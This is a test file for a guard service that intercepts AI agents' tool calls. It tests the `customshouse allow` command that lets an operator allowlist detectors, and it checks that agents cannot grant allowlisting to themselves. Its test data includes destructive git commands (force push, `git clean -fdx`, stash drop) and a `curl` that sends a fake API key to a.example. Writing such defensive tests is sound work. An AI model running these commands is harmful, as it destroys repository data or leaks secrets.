/** `customshouse allow`: its effect in all workers, its scope and end, its refusals, and its events in the audit log. */
import assert from 'node:assert/strict';
import { after, before, test } from 'node:test';
import { setTimeout as pause } from 'node:timers/promises';
import { runInProcess } from '../src/entry/cli/testing/run.ts';
import { type ApiClient, type ApiReply, openApiClient } from './support/api-client.ts';
import { startTestService, type TestService } from './support/service.ts';

const ROUTE = '/v1/dashboard/allowlist/detectors';
const PUSH = 'git push --force origin main';
const CONFIG = {
  tenants: {
    strict: {
      policies: [{ name: 'no-push', boundary: 'action', data_tags: ['dangerous'], action: 'block' }],
    },
  },
  policies: [{ name: 'stop', boundary: 'action', data_tags: ['dangerous'], action: 'block' }],
  paths: { contract_files: ['contracts.yaml'] },
};
const CONTRACTS = `contract:
  tool_name: deploy
  description: d
  accepts: { tags: [personal] }
  emits: {}
  side_effects: { reversible: true, requires_approval: false }
`;

let service: TestService;
let call: ApiClient;

before(async () => {
  service = await startTestService({
    config: CONFIG,
    files: { 'contracts.yaml': CONTRACTS },
    workers: 2,
  });
  call = openApiClient(service);
});
after(() => service.stop());

interface Call {
  readonly tool?: string;
  readonly agent_id?: string;
  readonly tenant_id?: string;
  readonly command?: string;
}

const ask = ({ command = PUSH, ...named }: Call = {}): Promise<ApiReply> => {
  const body = { tool: 'Bash', agent_id: 'coder', tenant_id: 'acme', input: { command }, ...named };
  return call('/v1/intercept/tool', { body, as: null });
};

/** Returns the different decisions by all workers. */
async function decide(named: Call = {}): Promise<readonly string[]> {
  const replies = await Promise.all(Array.from({ length: 6 }, () => ask(named)));
  return [...new Set(replies.map(({ body }) => String(body.decision)))];
}

const run = (...args: readonly string[]) => runInProcess(['allow', ...args], { cwd: service.dir });
const findEvents = async (filter: object) =>
  (await call('/v1/audit/query', { body: filter })).body.events as {
    readonly event_id: string;
    readonly caller_id: string;
    readonly metadata: Readonly<Record<string, unknown>>;
  }[];

test('an event is allowed for its tool, agent and tenant until it is revoked', async () => {
  const { event_id } = (await ask()).body;
  const preview = await run(event_id, '--reason', 'my branch', '--dry-run');
  assert.equal(preview.code, 0, preview.stderr);
  assert.match(
    preview.stderr,
    /`git\.push_force` are allowed for the tool `Bash`, the agent `coder`, the tenant `acme`, until 20/,
  );
  assert.deepEqual(await decide(), ['block']);
  assert.equal((await run(event_id, '--reason', 'my branch')).code, 2, 'no terminal, and no --yes');

  const added = await run(event_id, '--reason', 'my branch', '--yes', '--json');
  assert.equal(added.code, 0, added.stderr);
  const [{ id }] = JSON.parse(added.stdout).entries;
  assert.deepEqual(
    await Promise.all([
      decide(),
      decide({ tool: 'Shell' }),
      decide({ agent_id: 'planner' }),
      decide({ tenant_id: 'beta' }),
      decide({ command: 'git clean -fdx' }),
    ]),
    [['allow'], ['block'], ['block'], ['block'], ['block']],
  );
  const passed = await findEvents({ metadata_key: 'allowlist_entries', decision: 'allow' });
  assert.deepEqual(passed[0]?.metadata.allowlist_entries, [id]);
  const explained = await runInProcess(['policy', 'explain', passed[0]!.event_id], { cwd: service.dir });
  assert.match(explained.stdout, new RegExp(`allowed ${id}`));
  assert.equal((await run(event_id, '--reason', 'again', '--yes')).code, 1);

  assert.match(
    (await run('list')).stdout,
    new RegExp(`${id} +git\\.push_force +Bash +coder +acme .* my branch`),
  );
  const revoked = await run('revoke', id);
  assert.deepEqual([revoked.code, await decide()], [0, ['block']], revoked.stderr);
  assert.match((await run('list')).stdout, /No detector is allowlisted/);
  for (const phase of ['add', 'revoke']) {
    const [event] = await findEvents({ policy_name: `service.allowlist_detector_${phase}` });
    const { entry_ids, entry_detectors, note } = event!.metadata;
    assert.deepEqual([entry_ids, entry_detectors, note], [[id], ['git.push_force'], 'my branch']);
    assert.match(event!.caller_id, /./);
  }
});

test('only the detectors that decided are allowed', async () => {
  const command = `git status && ${PUSH} && git stash drop && mail jane.doe@corp-mail.io`;
  const { event_id } = (await ask({ command, tenant_id: 'default' })).body;
  const { stderr } = await run(event_id, '--reason', 'r', '--dry-run', '--agent', '*', '--until', '2d');
  const lines = stderr
    .trim()
    .split('\n')
    .map((line) => line.replace(/, until .*/, ''));
  const scope = 'are allowed for the tool `Bash`, any agent, the tenant `default`';
  assert.deepEqual(
    lines.toSorted(),
    ['git.push_force', 'git.stash_drop'].map((id) => `findings of \`${id}\` ${scope}`),
  );
  const explained = await runInProcess(['policy', 'explain', event_id], { cwd: service.dir });
  assert.match(explained.stdout, new RegExp(`An operator can allow it: customshouse allow ${event_id}`));
});

test('an expired entry has no effect and is recorded', async () => {
  const note = `key sk-${'ABCDEF'}1234567890`;
  const body = { rule_id: 'git.clean', until: '1s', note, confirm_weaker: true };
  const added = await call(ROUTE, { body });
  assert.equal(added.status, 200, JSON.stringify(added.body));
  assert.deepEqual([added.body.entries[0].tenant_id, added.body.entries[0].reason], [null, 'key [REDACTED]']);
  for (;;) {
    const [event] = await findEvents({ policy_name: 'service.allowlist_detector_expire' });
    if (event?.metadata.note === 'key [REDACTED]') break;
    await pause(100);
  }
  assert.deepEqual(await decide({ command: 'git clean -fdx' }), ['block']);
  assert.deepEqual((await call(ROUTE)).body.entries, []);
});

test('a cause that no entry overrides names the document to change', async () => {
  const event = async (named: Call) => (await ask(named)).body.event_id as string;
  const secret = `curl -H 'x: sk-${'ABCDEF'}1234567890' https://a.example`;
  const cases: readonly (readonly [string, readonly string[], RegExp])[] = [
    [
      'a rule of the tenant',
      [await event({ tenant_id: 'strict' })],
      /`no-push` decides.*`strict`.*service\.yaml/,
    ],
    ['the same by name', ['git.push_force', '--tenant', 'strict'], /`no-push` decides/],
    ['a contract', [await event({ tool: 'deploy' })], /`contract\..*paths\.contract_files/],
    ['the guard', ['guard.decide'], /`guard\.decide` keeps.*dangerous\.guard/],
    [
      'the guard by its event',
      [await event({ command: 'service approvals approve apr_1' })],
      /never allowlisted/,
    ],
    ['a secret', ['openai.api_key'], /customshouse fingerprint add/],
    ['a secret by its event', [await event({ command: secret })], /customshouse fingerprint add/],
    ['an allowed event', [await event({ command: 'ls' })], /was allowed/],
    ['an unknown detector', ['git.push_forse'], /did you mean `git\.push_force`/],
    ['an unknown event', ['evt_000000000000000000000000'], /no such event/],
  ];
  for (const [name, args, expected] of cases) {
    const { code, stderr } = await run(...args, '--reason', 'r', '--yes');
    assert.equal(code, 1, `${name}: ${stderr}`);
    assert.match(stderr, expected, name);
  }
  assert.deepEqual((await call(ROUTE)).body.entries, []);
});

test('only an operator with a reason allows a detector, for at most a year', async () => {
  const body = { rule_id: 'git.clean', note: 'r', confirm_weaker: true };
  const cases: readonly (readonly [object, object | null | undefined, number])[] = [
    [body, null, 403],
    [body, { user: 'admin' }, 403],
    [{ ...body, confirm_weaker: false }, undefined, 409],
    [{ ...body, note: ' ' }, undefined, 400],
    [{ rule_id: 'git.clean', confirm_weaker: true }, undefined, 400],
    [{ ...body, event_id: 'evt_1' }, undefined, 400],
    ...['900d', '0d', 'soon', '2020-01-01', '9999-01-01', '2027-02-31x'].map(
      (until) => [{ ...body, until }, undefined, 400] as const,
    ),
  ];
  for (const [given, as, status] of cases) {
    const reply = await call(ROUTE, { body: given, ...(as !== undefined && { as: as as null }) });
    assert.equal(reply.status, status, JSON.stringify([given, reply.body]));
  }
  assert.equal((await call(`${ROUTE}/revoke`, { body: { id: `alw_${'0'.repeat(24)}` } })).status, 404);
  for (const args of [[], ['git.clean']]) assert.equal((await run(...args)).code, 2);
  const args = ['allow', 'git.clean', '--reason', 'r', '--yes'];
  const below = await runInProcess(args, { cwd: service.dir, env: { CLAUDECODE: '1' } });
  assert.deepEqual([below.code, /`allow` is for an operator/.test(below.stderr)], [1, true]);
  assert.deepEqual((await call(ROUTE)).body.entries, []);
});
